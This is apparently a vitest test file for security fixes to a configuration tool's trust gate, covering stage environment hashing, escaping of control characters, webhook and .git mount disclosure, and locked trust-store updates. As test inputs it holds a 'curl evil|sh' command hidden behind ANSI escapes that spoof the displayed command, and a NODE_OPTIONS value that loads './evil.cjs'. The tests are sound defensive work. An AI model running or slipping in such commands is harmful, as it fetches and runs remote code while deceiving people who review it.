/**
 * Security review fixes for the trust gate: a stage's `environment:` is part of what is trusted,
 * control characters cannot spoof the display, webhooks and read-write mounts over `.git` are
 * shown and trusted, `--allow-outside` paths need no trust, and the store is updated under a lock.
 */
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { loadDefinition, type LoadOptions } from '../../../src/definition/resolve.js';
import { assertTrusted, capabilitiesHash, describeCapabilities, hostCapabilities, readTrustStore, updateTrustStore, withTrust } from '../../../src/state/trust.js';

let dir: string;
beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'envctl-sectrust-'));
});
afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

async function model(yaml: string, options: Partial<LoadOptions> = {}) {
  const file = join(dir, 'envctl.yaml');
  await writeFile(file, yaml);
  return loadDefinition({ cwd: dir, file, processEnv: {}, ...options });
}

const STAGE = 'services:\n  a: { image: x }\npipeline:\n  build: { run: ["node", "-e", "console.log(1)"] }\n';

describe('a host stage environment is trusted with its command', () => {
  it('changes the hash and is shown', async () => {
    const plain = hostCapabilities(await model(STAGE));
    const withEnv = hostCapabilities(await model(STAGE.replace('build: {', 'build: { environment: { NODE_OPTIONS: "--require ./evil.cjs" },')));
    const file = join(dir, 'envctl.yaml');
    expect(capabilitiesHash(file, withEnv)).not.toBe(capabilitiesHash(file, plain));
    expect(describeCapabilities(withEnv)[0]).toBe("pipeline.build.run: NODE_OPTIONS='--require ./evil.cjs' node -e console.log\\(1\\)");
  });
});

describe('control characters in a host command are shown escaped', () => {
  it('turns ESC and CR into visible \\e and \\r', () => {
    const shown = describeCapabilities({ commands: [{ where: 'pipeline.build.run', argv: ['sh', '-c', 'curl evil|sh #\u001b[1A\u001b[2K\r  pipeline.build.run: npm test'] }], paths: [] });
    expect(shown[0]).not.toMatch(/[\u0000-\u001f\u007f-\u009f]/);
    expect(shown[0]).toContain('\\e[1A\\e[2K\\r');
    expect(shown[0]).toContain('curl evil|sh');
  });
});

describe('webhooks and read-write mounts over .git need trust', () => {
  it('lists notify webhooks', async () => {
    const capabilities = hostCapabilities(await model('services:\n  a: { image: x }\npipeline:\n  notify: { webhook: "https://collector.example/hook" }\n'));
    expect(capabilities.webhooks).toEqual(['https://collector.example/hook']);
    expect(describeCapabilities(capabilities)).toContain('sends run results (JSON POST) to https://collector.example/hook');
  });

  it('lists a read-write bind of the project folder when it has .git, not a read-only one', async () => {
    await mkdir(join(dir, '.git', 'hooks'), { recursive: true });
    const rw = hostCapabilities(await model('services:\n  a: { image: x, volumes: [".:/w"] }\n'));
    expect(rw.gitWrites).toHaveLength(1);
    expect(rw.gitWrites![0]).toContain(join(dir, '.git'));
    const ro = hostCapabilities(await model('services:\n  a: { image: x, volumes: [".:/w:ro"] }\n'));
    expect(ro.gitWrites).toBeUndefined();
    const sub = hostCapabilities(await model('services:\n  a: { image: x, volumes: ["./src:/w"] }\n'));
    expect(sub.gitWrites).toBeUndefined();
  });

  it('refuses an untrusted definition that mounts .git read-write when trust is required', async () => {
    await mkdir(join(dir, '.git', 'hooks'), { recursive: true });
    const loaded = await model('services:\n  a: { image: x, volumes: [".:/w"] }\n');
    const env = { ENVCTL_REQUIRE_TRUST: '1', ENVCTL_TRUST_FILE: join(dir, 'trust.json') };
    await expect(assertTrusted(loaded, { env, uid: undefined, display: 'envctl.yaml' })).rejects.toMatchObject({ code: 'UNTRUSTED_DEFINITION' });
  });
});

describe('--allow-outside paths need no trust', () => {
  it('leaves flag paths out of the capabilities, so a clone using one is not refused', async () => {
    const outside = `${dir}-outside`;
    await mkdir(outside, { recursive: true });
    try {
      const loaded = await model(`services:\n  a: { image: x, volumes: ["${outside}:/data"] }\n`, { allowOutside: [outside] });
      expect(hostCapabilities(loaded).paths).toEqual([]);
      const env = { ENVCTL_REQUIRE_TRUST: '1', ENVCTL_TRUST_FILE: join(dir, 'trust.json') };
      await expect(assertTrusted(loaded, { env, uid: undefined, display: 'envctl.yaml' })).resolves.toBeUndefined();
    } finally {
      await rm(outside, { recursive: true, force: true });
    }
  });
});

describe('the trust store is updated under a lock', () => {
  it('keeps every entry of concurrent updates', async () => {
    const path = join(dir, 'config', 'trust.json');
    await Promise.all(
      Array.from({ length: 12 }, (_, index) => updateTrustStore(path, (store) => withTrust(store, { file: `/p/${index}/envctl.yaml`, hash: `sha256:${index}`, commands: [] }, new Date()))),
    );
    const store = await readTrustStore(path);
    expect(store.trusted.map((entry) => entry.hash).sort()).toEqual(Array.from({ length: 12 }, (_, index) => `sha256:${index}`).sort());
  });
});

describe('control characters in command arguments are refused by the schema', () => {
  it('refuses ESC and CR in a host stage argument, located at the argument', async () => {
    const error = await model('services:\n  a: { image: x }\npipeline:\n  build: { run: ["sh", "-c", "curl evil|sh #\\e[1A\\e[2K\\r  pipeline.build.run: npm test"] }\n').then(
      () => undefined,
      (caught: unknown) => caught as { diagnostics: Array<{ path: string; message: string }>; exitCode: number },
    );
    expect(error?.exitCode).toBe(2);
    expect(error?.diagnostics[0]!.path).toBe('pipeline.build.run[2]');
    expect(error?.diagnostics[0]!.message).toContain('\\x1b');
  });

  it('still accepts a multi-line script (newline and tab)', async () => {
    const loaded = await model('services:\n  a: { image: x }\npipeline:\n  build: { run: ["sh", "-c", "echo a\\n\\techo b"] }\n');
    expect(loaded.pipeline?.build?.run[2]).toBe('echo a\n\techo b');
  });
});
